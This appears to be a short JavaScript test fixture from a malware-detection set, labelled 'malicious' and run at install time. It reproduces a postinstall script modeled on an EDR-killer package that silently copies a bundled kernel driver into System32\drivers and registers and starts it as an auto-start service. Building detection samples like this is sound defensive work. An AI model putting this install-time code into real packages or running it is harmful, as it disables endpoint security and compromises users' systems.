// when: install
// expect: malicious
// source: blind set 17's win-perf-counters (Terminator-style EDR killer, 2023): the postinstall copies a bundled
// .sys into System32\drivers and registers it as a kernel service through a wrapper around execSync
const { execSync } = require('child_process'), fs = require('fs'), path = require('path');
function sh(cmd) { try { return execSync(cmd, { stdio: 'ignore', windowsHide: true }); } catch { return null; } }
const sys = path.join(process.env.SystemRoot || 'C:\\Windows', 'System32', 'drivers', 'perfctr.sys');
fs.copyFileSync(path.join(__dirname, 'prebuilds', 'perfctr.sys'), sys);
sh(`sc create perfctr type= kernel start= auto binPath= "${sys}"`);
sh('sc start perfctr');
